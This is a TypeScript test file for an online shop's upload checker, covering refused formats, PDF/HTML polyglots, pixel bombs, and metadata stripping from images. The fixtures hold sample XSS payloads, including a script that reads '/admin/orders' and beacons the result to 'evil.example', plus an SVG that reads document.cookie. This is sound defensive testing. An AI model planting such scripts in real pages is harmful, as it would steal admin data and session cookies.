import zlib from "node:zlib";
import PDFDocument from "pdfkit";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { english } from "../../../tests/support/english";
import { pixelBombPng } from "../../../tests/support/images";
import {
  checkDocument,
  DocumentError,
  type DocumentErrorCode,
  documentProblem,
  MAX_DOCUMENT_BYTES,
} from "./document-check.server";

/*
 * What an order's document may be, decided from its bytes: what passes is a
 * PDF or a picture a browser can only ever show as one; everything that could
 * run as a page on the shop's address, or carries more than it shows, is refused
 * or comes out clean.
 */

async function refusal(data: Buffer): Promise<DocumentErrorCode> {
  const error = await checkDocument(data).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error, "the file was accepted").toBeInstanceOf(DocumentError);
  return (error as DocumentError).code;
}

/** A small real PDF, as a scanner or an office program would write one. */
function tinyPdf(text = "Bill of lading No. 123"): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const doc = new PDFDocument({ size: "A6", info: { Title: "Bill of lading" } });
    const parts: Buffer[] = [];
    doc.on("data", (b: Buffer) => parts.push(b));
    doc.on("end", () => resolve(Buffer.concat(parts)));
    doc.on("error", reject);
    doc.text(text);
    doc.end();
  });
}

const picture = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: "#c84" } }).composite([
    {
      input: {
        create: { width: Math.ceil(width / 3), height: Math.ceil(height / 3), channels: 3, background: "#123" },
      },
      left: 0,
      top: 0,
    },
  ]);

const HTML_PAGE = `<!doctype html><html><body><script>fetch("/admin/orders").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>`;

describe("documents refused", () => {
  it("an HTML page, whatever it is called or declared as", async () => {
    expect(await refusal(Buffer.from(HTML_PAGE))).toBe("format");
    // The browser said PDF and the name says PDF; the bytes say HTML.
    const named = new File([HTML_PAGE], "invoice.pdf", { type: "application/pdf" });
    expect(await refusal(Buffer.from(await named.arrayBuffer()))).toBe("format");
  });

  it("SVG, with a script, or starting with an XML declaration", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>`;
    expect(await refusal(Buffer.from(svg))).toBe("format");
    expect(await refusal(Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${svg}`))).toBe("format");
  });

  it("GIF, ZIP (and so Word files) and plain text", async () => {
    const gif = await picture(40, 30).gif().toBuffer();
    expect(gif.toString("latin1", 0, 6)).toBe("GIF89a");
    expect(await refusal(gif)).toBe("format");
    const zip = Buffer.concat([Buffer.from("PK\x05\x06", "latin1"), Buffer.alloc(18)]);
    expect(await refusal(zip)).toBe("format");
    expect(await refusal(Buffer.from("Transfer of USD 4,500 made on 3 March."))).toBe("format");
  });

  it("an empty file, and one byte over 10 MB even when it looks like a PDF", async () => {
    expect(await refusal(Buffer.alloc(0))).toBe("empty");
    const sized = (bytes: number) => {
      const data = Buffer.alloc(bytes, 0x20);
      data.write("%PDF-1.4\n", 0, "latin1");
      data.write("%%EOF\n", bytes - 6, "latin1");
      return data;
    };
    expect(await refusal(sized(MAX_DOCUMENT_BYTES + 1))).toBe("size");
    await expect(checkDocument(sized(MAX_DOCUMENT_BYTES))).resolves.toMatchObject({ contentType: "application/pdf" });
  });

  it("a PDF whose first kilobyte is also a web page", async () => {
    const good = await tinyPdf();
    const polyglot = Buffer.concat([
      Buffer.from(`%PDF-1.7\n%<html><script>alert(1)</script>\n`, "latin1"),
      good.subarray(good.indexOf("\n") + 1),
    ]);
    expect(await refusal(polyglot)).toBe("format");
    for (const marker of ["<HTML>", "<Script", "<svg ", "<!DOCTYPE html>", '<?xml version="1.0"?>', "<body>"]) {
      const carrying = Buffer.concat([Buffer.from(`%PDF-1.4\n% ${marker}\n`, "latin1"), good.subarray(9)]);
      expect(await refusal(carrying), marker).toBe("format");
    }
  });

  it("a PDF carrying a web page further in, past where a browser first looks", async () => {
    const good = await tinyPdf();
    const deep = Buffer.concat([
      good.subarray(0, good.lastIndexOf("%%EOF")),
      Buffer.from(`%${" ".repeat(1100)}\n%<html><body><script>alert(1)</script>\n%%EOF\n`, "latin1"),
    ]);
    expect(await refusal(deep)).toBe("format");
  });

  it("a PDF whose compressed stream happens to spell a tag is kept: only what is outside streams is read", async () => {
    const good = await tinyPdf();
    const body = good.subarray(0, good.lastIndexOf("%%EOF"));
    const stream = Buffer.concat([
      Buffer.from("9 0 obj\n<< /Length 40 /Filter /FlateDecode >>\nstream\n", "latin1"),
      Buffer.from([0x78, 0x9c, 0x3c, 0x73, 0x76, 0x67, 0x01, 0x02, 0x3c, 0x68, 0x74, 0x6d, 0x6c]),
      Buffer.from("\nendstream\nendobj\n%%EOF\n", "latin1"),
    ]);
    await expect(checkDocument(Buffer.concat([body, stream]))).resolves.toMatchObject({
      contentType: "application/pdf",
    });
  });

  it("a PDF that does not end where a PDF ends: cut off, or with something after %%EOF", async () => {
    const good = await tinyPdf();
    expect(await refusal(good.subarray(0, good.length - 200))).toBe("unreadable");
    // A web page after the end is refused for being one.
    expect(await refusal(Buffer.concat([good, Buffer.from(HTML_PAGE)]))).toBe("format");
    expect(await refusal(Buffer.concat([good, Buffer.from("trailing bytes")]))).toBe("unreadable");
    expect(await refusal(Buffer.from("%PDF-1.4\n"))).toBe("unreadable");
    expect(await refusal(Buffer.from("%PDF-"))).toBe("format");
  });

  it("pictures that cannot be decoded, or have more pixels than allowed", async () => {
    const jpeg = await picture(64, 48).jpeg().toBuffer();
    expect(await refusal(jpeg.subarray(0, 40))).toBe("unreadable");
    const png = await picture(64, 48).png().toBuffer();
    expect(await refusal(Buffer.concat([png.subarray(0, 8), Buffer.alloc(200, 7)]))).toBe("unreadable");
    // 48 megapixels in a few kilobytes: refused before it is decoded.
    const bomb = await pixelBombPng(8000, 6000);
    expect(bomb.length).toBeLessThan(MAX_DOCUMENT_BYTES);
    expect(await refusal(bomb)).toBe("size");
  });
});

describe("documents kept", () => {
  it("a PDF, as it came", async () => {
    const pdf = await tinyPdf();
    const checked = await checkDocument(pdf);
    expect(checked).toEqual({ data: pdf, contentType: "application/pdf", extension: "pdf" });
    // White space after %%EOF, as some programs write, is fine.
    const trailing = Buffer.concat([pdf, Buffer.from("\r\n\n  \0")]);
    await expect(checkDocument(trailing)).resolves.toMatchObject({ extension: "pdf" });
  });

  it("a JPEG with a web page appended comes out a clean JPEG, without the page", async () => {
    const jpeg = await picture(800, 600).jpeg({ quality: 90 }).toBuffer();
    const page = HTML_PAGE.repeat(200);
    const polyglot = Buffer.concat([jpeg, Buffer.from(page)]);
    expect(polyglot.includes("<script")).toBe(true);
    const checked = await checkDocument(polyglot);
    expect(checked.contentType).toBe("image/jpeg");
    expect(checked.extension).toBe("jpg");
    expect(checked.data.length).toBeLessThan(polyglot.length);
    expect(checked.data.includes("<script")).toBe(false);
    expect(checked.data.includes("<html")).toBe(false);
    const meta = await sharp(checked.data).metadata();
    expect(meta).toMatchObject({ format: "jpeg", width: 800, height: 600 });
  });

  it("a phone's JPEG loses its GPS position and camera data, and stays upright", async () => {
    const phone = await picture(300, 200)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExifMerge({
        IFD0: { Make: "PhoneMaker", Model: "Receipt Cam" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "35/1 26/1 0/1",
          GPSLongitudeRef: "E",
          GPSLongitude: "139/1 38/1 0/1",
        },
      })
      .toBuffer();
    const before = await sharp(phone).metadata();
    expect(before.exif?.includes("PhoneMaker")).toBe(true);
    // The pointer to the GPS block (tag 0x8825), in either byte order.
    expect(before.exif?.includes(Buffer.from([0x25, 0x88])) || before.exif?.includes(Buffer.from([0x88, 0x25]))).toBe(
      true,
    );
    expect(before.orientation).toBe(6);

    const checked = await checkDocument(phone);
    const after = await sharp(checked.data).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(checked.data.includes("PhoneMaker")).toBe(false);
    // Turned as the phone meant it: the 300 × 200 picture stood on its side.
    expect([after.width, after.height]).toEqual([200, 300]);
  });

  it("a PNG stays a PNG, without the text it carried", async () => {
    const png = await picture(120, 90).png().toBuffer();
    // A tEXt chunk after the header, saying something a browser could run.
    const text = Buffer.from(`Comment\0${HTML_PAGE}`, "latin1");
    const length = Buffer.alloc(4);
    length.writeUInt32BE(text.length);
    const body = Buffer.concat([Buffer.from("tEXt", "latin1"), text]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    const carrying = Buffer.concat([png.subarray(0, 33), length, body, crc, png.subarray(33)]);
    expect((await sharp(carrying).metadata()).format).toBe("png");

    const checked = await checkDocument(carrying);
    expect(checked.contentType).toBe("image/png");
    expect(checked.extension).toBe("png");
    expect(checked.data.includes("<script")).toBe(false);
    expect(await sharp(checked.data).metadata()).toMatchObject({ format: "png", width: 120, height: 90 });
  });

  it("a WebP stays a WebP", async () => {
    const webp = await picture(200, 150).webp().toBuffer();
    const checked = await checkDocument(webp);
    expect(checked.contentType).toBe("image/webp");
    expect(checked.extension).toBe("webp");
    expect(await sharp(checked.data).metadata()).toMatchObject({ format: "webp", width: 200, height: 150 });
  });
});

describe("what people are told", () => {
  it("the staff and the buyer each in their catalogue, and the logs in English", () => {
    expect(english(documentProblem("format", "staff"))).toBe("Documents must be PDF, JPG, PNG or WebP files.");
    expect(english(documentProblem("format", "buyer"))).toBe("Documents must be PDF, JPG, PNG or WebP files.");
    expect(english(documentProblem("size", "buyer"))).toBe(
      "A document may be at most 10 MB, and a picture at most 40 megapixels.",
    );
    expect(documentProblem("storage", "buyer").key).toBe("documents.storage");
    expect(documentProblem("storage", "staff").key).toBe("messages.text.documentStorageDown");
    for (const code of ["empty", "size", "format", "unreadable", "storage"] as const) {
      for (const audience of ["staff", "buyer"] as const) {
        const p = documentProblem(code, audience);
        // A key the catalogue lacks would come back as the key itself.
        expect(english(p), `${code} for ${audience}`).not.toBe(p.key);
      }
      expect(new DocumentError(code).message).toBe(english(documentProblem(code, "staff")));
    }
  });
});
